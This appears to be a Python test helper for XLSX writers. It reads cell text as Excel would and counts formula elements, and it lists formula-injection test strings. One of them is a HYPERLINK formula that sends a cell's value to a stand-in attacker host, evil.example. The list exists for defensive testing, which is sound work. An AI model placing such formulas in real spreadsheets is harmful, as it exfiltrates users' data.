"""An XLSX file read back as a spreadsheet program reads it, for the tests of every XLSX writer.

openpyxl gives each cell's type, but not always the text Excel shows: it leaves `_xHHHH_` escapes in inline strings
(and in shared strings only drops `x005F_`). `texts()` reads the sheets' XML itself and decodes the escapes as
Excel and LibreOffice do, left to right (`_x0041_` → "A", `_x005F_x0041_` → "_x0041_"), with openpyxl's own
decoder; `formula_elements()` counts the `<f>` elements a sheet would run.
"""

from __future__ import annotations

import io
import zipfile
from xml.etree import ElementTree

import openpyxl
from openpyxl.utils.escape import unescape

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

# Text a user may type that a spreadsheet must show exactly as typed, and never run.
EXACT_PAYLOADS = (
    "=1+1",
    "+86 745 1234567",
    "-5 units",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "\t=1+1",
    "\r=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "_x0041_",
    "a\x01b\x1fc",
    "<script>alert(1)</script>",
)


def _string(element) -> str:
    """The text of an <si> or <is>: its <t>s in order, without phonetic runs."""
    parts = []
    for child in element:
        if child.tag == f"{MAIN}t":
            parts.append(child.text or "")
        elif child.tag == f"{MAIN}r":
            parts.extend(t.text or "" for t in child.iter(f"{MAIN}t"))
    return unescape("".join(parts))


def texts(content: bytes) -> dict[str, dict[str, str]]:
    """{sheet part: {cell reference: text}} of every text cell, shared or inline."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = archive.namelist()
        shared = []
        if "xl/sharedStrings.xml" in names:
            root = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))
            shared = [_string(si) for si in root.iter(f"{MAIN}si")]
        found: dict[str, dict[str, str]] = {}
        for name in names:
            if not (name.startswith("xl/worksheets/") and name.endswith(".xml")):
                continue
            cells = found.setdefault(name, {})
            for cell in ElementTree.fromstring(archive.read(name)).iter(f"{MAIN}c"):
                kind = cell.get("t")
                if kind == "s":
                    cells[cell.get("r")] = shared[int(cell.find(f"{MAIN}v").text)]
                elif kind == "inlineStr":
                    cells[cell.get("r")] = _string(cell.find(f"{MAIN}is"))
    return found


def all_texts(content: bytes) -> list[str]:
    return [text for cells in texts(content).values() for text in cells.values()]


def formula_elements(content: bytes) -> int:
    """How many <f> elements (formulas) the workbook's sheets hold."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return sum(
            len(ElementTree.fromstring(archive.read(name)).findall(f".//{MAIN}f"))
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
        )


def string_cells(content: bytes) -> list:
    """openpyxl's cells holding text, for their types."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
